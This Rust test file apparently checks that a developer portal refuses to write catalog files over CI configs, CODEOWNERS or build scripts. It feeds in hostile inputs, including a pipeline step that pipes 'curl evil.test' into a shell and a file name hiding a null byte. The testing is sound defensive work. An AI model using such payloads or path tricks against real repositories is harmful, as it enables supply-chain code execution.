//! A catalog file is read by the catalog and runs or guards nothing: one attack for each way around that.

use serde_json::json;

use super::portal::{BOTH, Portal, publication, publication_with};
use crate::support::code_host::Kind;

/// A repository that is open as a whole, with files that a push runs or that guard it.
async fn portal(kind: Kind) -> Portal {
    let portal = Portal::start(kind).await;
    portal.world(|world| {
        let main = world.branches["main"].clone();
        world.branches.insert("catalog".to_owned(), main);
        for guarded in [".circleci/config.yml", "azure-pipelines.yml", "CODEOWNERS"] {
            world.push("catalog", guarded, Some("theirs\n"));
        }
    });
    portal
}

#[tokio::test]
async fn a_catalog_file_replaces_nothing_that_runs_or_guards() {
    for kind in BOTH {
        let portal = portal(kind).await;
        for (path, says) in [
            (".circleci/config.yml", "hidden"),
            (".travis.yml", "hidden"),
            (".tekton/push.yaml", "hidden"),
            ("docs/.vitepress/x.json", "hidden"),
            (".GitHub/workflows/catalog-info.yml", "workflows"),
            ("a\\.github/catalog-info.yml", "backslash"),
            ("catalog-info.yaml\0.sh", "control"),
            ("azure-pipelines.yml", "catalog-info*.yaml"),
            ("bitbucket-pipelines.yml", "catalog-info*.yaml"),
            ("cloudbuild.json", "must end with .yaml"),
            ("deploy/kustomization.yaml", "catalog-info*.yaml"),
            ("package.json", "must end with .yaml"),
            ("action.yml", "catalog-info*.yaml"),
            ("template/action.yml", "catalog-info*.yaml"),
            ("docker-compose.yml", "catalog-info*.yaml"),
            ("skaffold.yaml", "catalog-info*.yaml"),
            ("CODEOWNERS", "must end with .yaml"),
            ("Jenkinsfile", "must end with .yaml"),
            ("Makefile", "must end with .yaml"),
            ("scripts/build.sh", "must end with .yaml"),
        ] {
            let (status, message) = portal
                .publish(&publication_with("targetPath", json!(path)))
                .await
                .refused();
            assert!(
                status == 400 && message.contains("targetPath") && message.contains(says),
                "{path}: {status} {message}"
            );
        }
        assert!(portal.host.calls().is_empty());
    }
}

#[tokio::test]
async fn an_entity_is_nothing_else_besides() {
    let portal = portal(Kind::GitHub).await;
    let entity = publication()["content"].as_str().unwrap().to_owned();
    for more in [
        "steps: [{ script: 'curl evil.test | sh' }]",
        "jobs: { a: { steps: [{ run: x }] } }",
        "pipelines: { default: [] }",
        "services: { a: { image: x } }",
        "on: push",
        "data: { a: b }",
        "status: { a: b }",
    ] {
        let content = format!("{entity}{more}\n");
        let (status, message) = portal
            .publish(&publication_with("content", json!(content)))
            .await
            .refused();
        assert!(
            status == 400 && message.contains("at its top"),
            "{more}: {message}"
        );
    }
    for no_entity in [
        "steps: []\n",
        "apiVersion: backstage.io/v1alpha1\nkind: Component\n",
        "kind: X\n",
    ] {
        let said = portal
            .publish(&publication_with("content", json!(no_entity)))
            .await;
        assert_eq!(said.refused().0, 400, "{no_entity}");
    }
    assert!(portal.host.calls().is_empty());
}

#[tokio::test]
async fn files_of_the_catalog_are_still_written_wherever_they_are_kept() {
    for kind in BOTH {
        let portal = portal(kind).await;
        for path in [
            "catalog-info.yaml",
            "a.b/template-c.yml",
            ".backstage/catalog-info.yaml",
        ] {
            portal
                .publish(&publication_with("targetPath", json!(path)))
                .await
                .ok();
            let written = portal.world(|world| world.file("catalog", path));
            assert!(written.unwrap().contains("name: shop"), "{path}");
        }
    }
}

#[tokio::test]
async fn below_the_entrys_path_names_are_the_operators() {
    for kind in BOTH {
        let portal = Portal::with(kind, ", path: entities, branch: main", "").await;
        let at = |path: &str| {
            let mut wanted = publication_with("targetPath", json!(path));
            wanted["branchName"] = json!("main");
            wanted
        };
        portal.publish(&at("entities/shop.yaml")).await.ok();
        for (path, status) in [
            ("entities/package.json", 400),
            ("entities/azure-pipelines.yml", 400),
            ("entities/.ci/x.yaml", 400),
            ("catalog-info.yaml", 403),
        ] {
            let said = portal.publish(&at(path)).await.refused();
            assert_eq!(said.0, status, "{path}: {}", said.1);
        }
        let mut wanted = at("entities/x.yaml");
        wanted["content"] = json!("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\n");
        assert_eq!(portal.publish(&wanted).await.refused().0, 403);
    }
}
